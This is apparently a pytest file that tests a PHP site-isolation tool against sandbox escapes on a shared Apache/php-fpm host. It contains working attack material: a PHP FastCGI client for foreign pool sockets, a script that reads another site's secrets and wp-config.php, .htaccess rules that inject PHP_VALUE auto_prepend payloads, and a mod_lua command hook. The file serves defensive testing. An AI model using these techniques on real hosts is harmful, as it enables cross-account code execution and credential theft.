"""Attacks on handler routing (SPEC §8 "which site", §4.3 "no way around").

The web server's user reaches every php-fpm socket of the host: Debian's
`www` pool (as www-data), the pools the panel or the admin run as the
account (here /etc/php/8.2/fpm/pool.d/john.conf, as john, outside every
view) and siteiso's own per-site masters. A hostile site tries to get its
PHP run by one of them, outside its view:

- from its `.htaccess`: `RewriteRule … [H=proxy:unix:<socket>|fcgi://…]`,
  `[P]` to a `unix:` URL, and mod_lua's hooks where mod_lua is loaded;
- from its PHP: a FastCGI client on a pool's socket (same uid: allowed);
- from any vhost of the host (another account's, not isolated, with
  `AllowOverride All`): `SetHandler` to an isolated site's php-fpm socket,
  with PHP_VALUE / PHP_ADMIN_VALUE of its choice.

Each test first shows the route works (before enable, or where nothing
hides it), then that it fails for isolated sites, that the sites keep
serving their own PHP, and that disable gives the panel's behaviour back.
"""

from __future__ import annotations

import base64
import re
import time
from urllib.parse import urlencode

import pytest
from conftest_handlers import (
    A_ROOT,
    B_ROOT,
    B_SECRET,
    JANE,
    NESTED,
    A,
    B,
    disable,
    enable,
    set_handler,
    site_record,
)

from siteiso.sandbox import curl

pytestmark = pytest.mark.web

JANE_ROOT = "/home/jane/public_html"
WWW_SOCK = "/run/php/php8.2-fpm.sock"
JOHN_SOCK = "/run/php/john.sock"
FPM_DIR = "/run/siteiso/fpm"

# What an admin or a panel adds for the account: a pool as john, outside
# every view, its socket john's and the web server's.
JOHN_POOL = """[john]
user = john
group = john
listen = /run/php/john.sock
listen.owner = john
listen.group = www-data
listen.mode = 0660
pm = ondemand
pm.max_children = 2
"""

# The attacker's script: who runs it, and what it reads there.
EVIL = ("<?php echo 'RAN-AS ', posix_getpwuid(posix_geteuid())['name'], ' ';\n"
        f"@readfile('{B_SECRET}'); @readfile('{JANE_ROOT}/wp-config.php');\n")

# A FastCGI client in PHP, as a site's code would carry one: asks the
# socket `sock` to run `script`, prints what comes back.
FCGI = r"""<?php
function rec($t, $c) { return pack('CCnnCx', 1, $t, 1, strlen($c), 0) . $c; }
function kv($k, $v) { return chr(strlen($k)) . chr(strlen($v)) . $k . $v; }
$s = @stream_socket_client('unix://' . $_GET['sock'], $en, $es, 2);
if (!$s) { echo "NOCONNECT $es"; exit; }
$p = '';
foreach (['SCRIPT_FILENAME' => $_GET['script'], 'REQUEST_METHOD' => 'GET',
          'SCRIPT_NAME' => '/x.php', 'QUERY_STRING' => ''] as $k => $v) {
    $p .= kv($k, $v);
}
fwrite($s, rec(1, pack('nCx5', 1, 0)) . rec(4, $p) . rec(4, '') . rec(5, ''));
$out = '';
while (!feof($s)) {
    $h = fread($s, 8);
    if (strlen($h) < 8) break;
    $a = unpack('Cv/Ct/nid/nlen/Cpad/Cr', $h);
    $c = $a['len'] ? fread($s, $a['len']) : '';
    if ($a['pad']) fread($s, $a['pad']);
    if ($a['t'] == 6) $out .= $c;
    if ($a['t'] == 3) break;
}
echo "GOT ", $out;
"""


def start_host_fpm(sbx) -> None:
    """Debian's php-fpm with its `www` pool and john's pool, as the init
    system would start it (root master, outside every view)."""
    sbx.write("/etc/php/8.2/fpm/pool.d/john.conf", JOHN_POOL)
    sbx.sh("mkdir -p /run/php && /usr/sbin/php-fpm8.2 "
           "--fpm-config /etc/php/8.2/fpm/php-fpm.conf")
    for _ in range(100):
        if sbx.exists(WWW_SOCK) and sbx.exists(JOHN_SOCK):
            return
        time.sleep(0.1)
    raise AssertionError(sbx.read("/var/log/php8.2-fpm.log"))


@pytest.fixture
def hweb(web):
    start_host_fpm(web.sbx)
    web.sbx.make_tree("john", {f"{A_ROOT}/evil.php": EVIL, f"{A_ROOT}/fcgi.php": FCGI})
    return web


def htaccess(sbx, owner, docroot, text):
    sbx.make_tree(owner, {f"{docroot}/.htaccess": text})


def direct(web, domain, sock, script):
    """The site's own PHP speaks FastCGI to `sock`."""
    return web.get(domain, "/fcgi.php?" + urlencode({"sock": sock, "script": script}))


def escaped(body: str) -> bool:
    """Code ran outside the site's view: as someone else, or reading a
    sibling's or another account's secret."""
    return "RAN-AS" in body and ("secret-of-b.example" in body
                                 or "secret-of-jane.example" in body
                                 or "RAN-AS www-data" in body)


# ---- the account's own pool, straight from the site's PHP --------------------------


@pytest.mark.parametrize("handler", ["fpm", "cgi"])
def test_sites_php_cannot_use_the_accounts_pool(hweb, handler):
    sbx = hweb.sbx
    set_handler(sbx, handler)
    # Real: the pool runs as john outside every view, and john connects.
    code, body = direct(hweb, A, JOHN_SOCK, f"{A_ROOT}/evil.php")
    assert code == 200 and "RAN-AS john" in body and "secret-of-b.example" in body
    enable(sbx, A, B)
    assert hweb.get(A, "/index.php") == (200, "hello from a.example")
    assert hweb.get(B, "/index.php") == (200, "hello from b.example")
    code, body = direct(hweb, A, JOHN_SOCK, f"{A_ROOT}/evil.php")
    assert code == 200 and body.startswith("NOCONNECT"), body
    assert not escaped(body)
    # The pool's directory is there, empty and read-only.
    r = hweb.probe(A, "exec", "ls -A /run/php; touch /run/php/x 2>&1;"
                              f" test -e {JOHN_SOCK} && echo present || echo absent")
    assert r["out"].strip().endswith("absent") and "Read-only" in r["out"], r
    # Outside the views the pool still serves the account.
    r = sbx.run(["python3", "-c", "import socket; socket.socket(socket.AF_UNIX)"
                 f".connect('{JOHN_SOCK}')"], user="john", check=False)
    assert r.returncode == 0, r.stderr
    # The not isolated sibling and the other account keep their PHP.
    assert hweb.get(NESTED, "/index.php") == (200, "hello from nested.example")
    assert hweb.get(JANE, "/index.php") == (200, "hello from jane.example")
    # doctor: hidden pools are fine; one on TCP cannot be hidden, and a pool
    # file john could write is data nobody reads.
    sbx.write("/etc/php/8.2/fpm/pool.d/tcp.conf",
              "[tcp]\nuser = john\nlisten = 127.0.0.1:9011\n")
    sbx.write("/etc/php/8.2/fpm/pool.d/mine.conf", "[x\n\0junk = [\n", owner="john")
    out = sbx.run(["siteiso", "doctor"]).stdout
    assert "fpm-pool" in out and "TCP 127.0.0.1:9011" in out, out
    assert "mine.conf: skipped" in out, out
    disable(sbx, A, B)
    code, body = direct(hweb, A, JOHN_SOCK, f"{A_ROOT}/evil.php")
    assert "RAN-AS john" in body      # the panel's behaviour, back


# ---- .htaccess routes to the host's pools -------------------------------------------


ROUTES = {
    "www-pool": f"RewriteRule ^evil\\.php$ - [H=proxy:unix:{WWW_SOCK}|fcgi://localhost]",
    "account-pool": f"RewriteRule ^evil\\.php$ - [H=proxy:unix:{JOHN_SOCK}|fcgi://localhost]",
    "account-pool-P": (f"RewriteRule ^evil\\.php$ unix:{JOHN_SOCK}|fcgi://localhost"
                       f"{A_ROOT}/evil.php [P]"),
}


@pytest.mark.parametrize("route", sorted(ROUTES))
def test_htaccess_cannot_route_php_to_the_hosts_pools(hweb, route):
    sbx = hweb.sbx
    set_handler(sbx, "fpm")
    htaccess(sbx, "john", A_ROOT, f"RewriteEngine On\n{ROUTES[route]}\n")
    # Real: the panel's vhost follows the rule, and the pool runs the
    # site's script outside every view (as www-data or as john).
    code, body = hweb.get(A, "/evil.php")
    assert escaped(body), (code, body)
    enable(sbx, A, B)
    code, body = hweb.get(A, "/evil.php")
    assert not escaped(body), (route, code, body)
    assert "RAN-AS" not in body
    sbx.run(["rm", f"{A_ROOT}/.htaccess"])
    assert hweb.get(A, "/index.php") == (200, "hello from a.example")
    disable(sbx, A, B)
    htaccess(sbx, "john", A_ROOT, f"RewriteEngine On\n{ROUTES[route]}\n")
    assert escaped(hweb.get(A, "/evil.php")[1])   # the panel's behaviour, back


# ---- siteiso's own sockets, from any vhost -------------------------------------


def _setenv_attack(sock: str) -> str:
    """A non-isolated vhost's .htaccess (AllowOverride All, as on cPanel):
    its PHP goes to `sock` with B's index.php as the script and code of the
    attacker's prepended."""
    payload = base64.b64encode(EVIL.encode()).decode()
    return ('<FilesMatch "\\.php$">\n'
            f'SetHandler "proxy:unix:{sock}|fcgi://x/"\n'
            "</FilesMatch>\n"
            f'ProxyFCGISetEnvIf "true" SCRIPT_FILENAME "{B_ROOT}/index.php"\n'
            'ProxyFCGISetEnvIf "true" PHP_ADMIN_VALUE "allow_url_include=1"\n'
            "ProxyFCGISetEnvIf \"true\" PHP_VALUE 'auto_prepend_file="
            f"\"data://text/plain;base64,{payload}\"'\n")


def _socket_of(sbx, domain: str) -> str:
    """The site's php-fpm socket, as root finds it (its vhost include)."""
    m = re.search(r"proxy:unix:(/run/siteiso/fpm/[0-9a-f]+\.sock)\|",
                  sbx.read(f"/etc/apache2/siteiso/{domain}.conf"))
    assert m and sbx.exists(m.group(1))
    return m.group(1)


def test_no_vhost_can_find_or_name_an_isolated_sites_fpm_socket(hweb):
    sbx = hweb.sbx
    set_handler(sbx, "fpm")
    enable(sbx, A, B)
    b = site_record(sbx, "john", B_ROOT)
    b_sock = _socket_of(sbx, B)
    # Real: whoever knows the path runs code in B's view, as john, from
    # another account's vhost.
    htaccess(sbx, "jane", JANE_ROOT, _setenv_attack(b_sock))
    code, body = hweb.get(JANE, "/index.php")
    assert "RAN-AS john" in body and "secret-of-b.example" in body, (code, body)
    # The path is a secret: not the token (which views show), not listed by
    # the host's network namespace (connections show the throwaway name the
    # socket was bound to), the directory not listable, the include root's.
    assert b.token not in b_sock
    outs = []
    for who in ("jane", "www-data", "john"):
        r = sbx.run(["sh", "-c", f"cat /proc/net/unix; ss -xa; ls {FPM_DIR}; "
                     f"cat /etc/apache2/siteiso/{B}.conf"], user=who, check=False)
        outs.append(r.stdout)
    outs.append(hweb.probe(A, "exec", "cat /proc/net/unix; ss -xa")["out"])
    for out in outs:
        assert b_sock not in out
        for listed in re.findall(r"/run/siteiso/fpm/[^\s]+", out):
            assert not sbx.exists(listed), (listed, out)
    # What an attacker can name gets nothing.
    for guess in (f"{FPM_DIR}/{b.token}.sock", f"{FPM_DIR}/.{b.token}.sock.new"):
        htaccess(sbx, "jane", JANE_ROOT, _setenv_attack(guess))
        code, body = hweb.get(JANE, "/index.php")
        assert not escaped(body), (guess, code, body)
    # Both isolated sites serve their own PHP, jane hers.
    sbx.run(["rm", f"{JANE_ROOT}/.htaccess"])
    assert hweb.get(A, "/index.php") == (200, "hello from a.example")
    assert hweb.get(B, "/index.php") == (200, "hello from b.example")
    assert hweb.get(JANE, "/index.php") == (200, "hello from jane.example")


def test_a_siblings_htaccess_cannot_reach_an_isolated_sites_master(hweb):
    sbx = hweb.sbx
    set_handler(sbx, "fpm")
    enable(sbx, A, B)
    b_tok = site_record(sbx, "john", B_ROOT).token
    b_sock = _socket_of(sbx, B)
    payload = base64.b64encode(EVIL.encode()).decode()
    for sock in (b_sock, f"{FPM_DIR}/{b_tok}.sock"):
        for rules in (f"RewriteEngine On\nRewriteRule ^index\\.php$ - "
                      f"[H=proxy:unix:{sock}|fcgi://localhost]\n",
                      _setenv_attack(sock)):
            htaccess(sbx, "john", A_ROOT, rules)
            code, body = hweb.get(A, "/index.php")
            assert not escaped(body) and payload not in body, (sock, code, body)
    sbx.run(["rm", f"{A_ROOT}/.htaccess"])
    assert hweb.get(A, "/index.php") == (200, "hello from a.example")


# ---- mod_lua -------------------------------------------------------------------


LUA = """function f(r)
    r.content_type = 'text/plain'
    r:puts('LUA-RAN as ' .. io.popen('id -un'):read('*l'))
    return apache2.DONE
end
"""


def test_htaccess_cannot_run_lua_in_the_web_server(hweb):
    """Where mod_lua is loaded (EL's httpd ships it), any override class
    (the include used to grant AuthConfig) admits mod_lua's directives in
    .htaccess: Lua code of the site's, inside the web server, as its user."""
    sbx = hweb.sbx
    sbx.sh("a2enmod -q lua >/dev/null && apache2ctl graceful")
    time.sleep(1)
    sbx.make_tree("john", {f"{A_ROOT}/g.lua": LUA})
    htaccess(sbx, "john", A_ROOT, f"LuaHookFixups {A_ROOT}/g.lua f\n")
    assert hweb.get(A, "/data.txt") == (200, "LUA-RAN as www-data")     # real
    enable(sbx, A, B)
    code, body = hweb.get(A, "/data.txt")
    assert "LUA-RAN" not in body, (code, body)
    log = sbx.read("/var/log/apache2/error.log")
    assert re.search(r"LuaHookFixups not allowed here", log), log[-2000:]
    # What sites do need still works: auth, access rules, headers.
    htaccess(sbx, "john", A_ROOT, "<IfModule mod_dir.c>\nDirectoryIndex index.php\n"
                                  "</IfModule>\n<Files data.txt>\nRequire all denied\n"
                                  "</Files>\n")
    assert hweb.get(A, "/data.txt")[0] == 403
    assert hweb.get(A, "/")[1] == "hello from a.example"
    code, _ = curl(sbx, A, "/index.php")
    assert code == 200
